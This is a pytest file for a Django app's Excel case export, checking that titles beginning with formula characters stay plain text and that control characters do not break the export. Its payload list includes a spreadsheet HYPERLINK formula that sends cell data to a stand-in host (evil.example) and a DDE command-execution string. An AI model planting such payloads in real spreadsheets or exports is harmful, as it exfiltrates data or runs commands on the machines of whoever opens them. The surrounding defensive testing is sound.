"""Issue 22, defects 6 and 7: a title that starts with “=” must not become a live formula in
a dispatcher's Excel export, and a control character in one report must not make the
export fail."""

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.factories import report_case

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝1+1",
]


def _export(world):
    dispatcher = Client()
    dispatcher.force_login(world.dispatcher)
    return dispatcher.get("/cases/export.xlsx")


def _titles(response):
    # The queue's export is streamed from a temporary file.
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [row[1] for row in sheet.iter_rows(min_row=2)]


def test_a_title_that_looks_like_a_formula_stays_text_in_the_queue_export(world):
    for formula in FORMULAS:
        report_case(world, world.pothole, title=formula, description="路面坑洼" + formula)
    response = _export(world)
    assert response.status_code == 200
    cells = _titles(response)
    assert len(cells) == len(FORMULAS)
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "＝"))


def test_control_characters_in_a_report_do_not_break_the_queue_export(world):
    report_case(world, world.pothole, title="井盖\x01丢失\x07\x1b[31m", description="井盖丢失\x0b")
    report_case(world, world.pothole, title="路灯不亮", description="路灯不亮")
    response = _export(world)
    assert response.status_code == 200
    titles = sorted(c.value for c in _titles(response))
    assert titles == ["井盖丢失[31m", "路灯不亮"]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_quotes_every_formula_start(value):
    from gongzhi.core.sheets import safe_cell

    assert safe_cell(value) == "'" + value


def test_safe_cell_keeps_numbers_dates_and_plain_text():
    import datetime as dt

    from gongzhi.core.sheets import safe_row

    day = dt.date(2026, 3, 5)
    assert safe_row([-5, 3.5, day, None, "路面坑洼", "a\nb"]) == [
        -5,
        3.5,
        day,
        None,
        "路面坑洼",
        "a\nb",
    ]
